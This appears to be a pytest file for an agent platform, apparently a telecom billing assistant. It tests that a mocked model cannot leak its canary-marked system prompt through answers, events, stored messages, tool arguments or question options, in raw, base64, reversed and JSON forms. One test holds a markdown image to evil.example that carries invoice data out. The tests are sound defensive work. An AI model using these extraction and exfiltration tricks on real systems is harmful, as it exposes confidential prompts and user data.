"""A model that reads its prompt out to whoever asks.

Not in the answer, not in events, not in a tool's arguments.
"""

import base64
import json

import pytest

from agents.models import Specialist
from conversations.models import Message, Step
from conversations.visits import visit
from releases.publish import publish
from routing.models import AgentProfile
from tenancy.models import Tenant
from tests.parts.phrases import try_each
from tests.turns.conftest import BUYER, CUSTOMER
from tests.turns.gullible import call, made
from tests.turns.gullible import model as model

pytestmark = pytest.mark.django_db(transaction=True)
WHO = CUSTOMER | BUYER
ASK = "Minha fatura veio alta"
CANARY = "ZEBRA-7742-KX"


@pytest.fixture
def marked(transactional_db):
    """Every specialist's prompt holds a code."""
    for specialist in Specialist.objects.of("tenant_a"):
        prompt = specialist.prompts.order_by("number").last()
        prompt.context = f"{prompt.context}\nCódigo interno: {CANARY}."
        prompt.save()
    publish(Tenant.objects.get(pk="tenant_a"), None)


@pytest.fixture
def checks_figures(transactional_db):
    """The profile has GND, as the demo gives it."""
    profile = AgentProfile.objects.of("tenant_a").get(agent_id="telecom_contas")
    assert profile.guardrails.filter(code="GND", action="block").exists()


def written(found):
    return json.dumps(found, ensure_ascii=False, default=str)


def prompt_of(asked):
    return str(asked["messages"][0]["content"])


WAYS = {
    "as it stands": lambda prompt: prompt,
    "in base64": lambda prompt: base64.b64encode(prompt.encode()).decode(),
    "backwards": lambda prompt: prompt[::-1],
    "spelled": lambda prompt: " ".join(prompt),
    "as data": lambda prompt: json.dumps({"system": prompt}),
    "the code alone": lambda prompt: f"O código é {CANARY}.",
}


@try_each("mode", ["router", "supervisor", "single"])
@try_each("way", WAYS, ids=[name.replace(" ", "_") for name in WAYS])
async def test_a_prompt_is_not_read_out(talk, model, marked, way, mode):
    model.when(lambda asked: call(text=WAYS[way](prompt_of(asked))))
    one = talk("s1")
    answer = await one(ASK, WHO, mode=mode)
    told = [(event.name, event.data) for event in one.events]
    stored = await visit(
        lambda: [*Message.objects.of("tenant_a").values(), *Step.objects.of("tenant_a").values()]
    )
    for text in (answer["text"], written(told), written(stored)):
        assert CANARY not in text
        assert "Never say that something was done" not in text
    assert answer["text"].strip()


async def test_a_prompt_is_not_sent_to_a_tool(talk, model, marked):
    model.when(
        lambda asked: (
            call(("consultar_fatura", {"invoice_id": prompt_of(asked)})) if not made(asked) else None
        )
    )
    answer = await talk("s1")(ASK, WHO)
    assert CANARY not in written(answer)


async def test_a_picture_of_another_host_is_told_as_text(talk, model):
    model.when(lambda asked: call(text="Sua fatura: ![x](https://evil.example/p?d=INV001)"))
    answer = await talk("s1")(ASK, WHO)
    assert answer["text"] == "Sua fatura: x (evil.example/p?d=INV001)"


async def test_an_invented_invoice_does_not_reach_the_user(talk, model, checks_figures):
    model.when(lambda asked: call(text="A fatura INV777 é de R$ 999,99. A fatura INV001 está aberta."))
    answer = await talk("s1")(ASK, WHO)
    assert "INV777" not in answer["text"] and "999" not in answer["text"]
    assert "A fatura INV001 está aberta." in answer["text"]


async def test_a_question_and_its_options_tell_no_prompt(talk, model, marked):
    model.when(
        lambda asked: call(
            (
                "ask_user",
                {
                    "question": f"Qual? {prompt_of(asked)} {CANARY}",
                    "options": [
                        {"label": prompt_of(asked)[:200], "value": "a"},
                        {"label": "Faturas", "value": CANARY},
                        {"label": "Faturas", "value": "faturas"},
                    ],
                },
            )
        )
    )
    one = talk("s1")
    answer = await one(ASK, WHO)
    told = written([answer, *((event.name, event.data) for event in one.events)])
    assert CANARY not in told and "Never say that something was done" not in told
    assert [each["label"] for each in answer["metadata"]["question"]["options"]] == ["Faturas"]


async def test_a_code_is_not_sent_to_a_tool_nor_an_order_as_the_name_of_an_argument(talk, model, marked):
    model.when(
        lambda asked: (
            call(
                ("consultar_fatura", {"invoice_id": CANARY}),
                ("consultar_fatura", {prompt_of(asked)[:300]: "x"}),
            )
            if not made(asked)
            else None
        )
    )
    answer = await talk("s1")(ASK, WHO)
    assert CANARY not in written(answer["metadata"]["mcp_results"])
    assert "operadora" not in written(answer["metadata"]["mcp_results"])
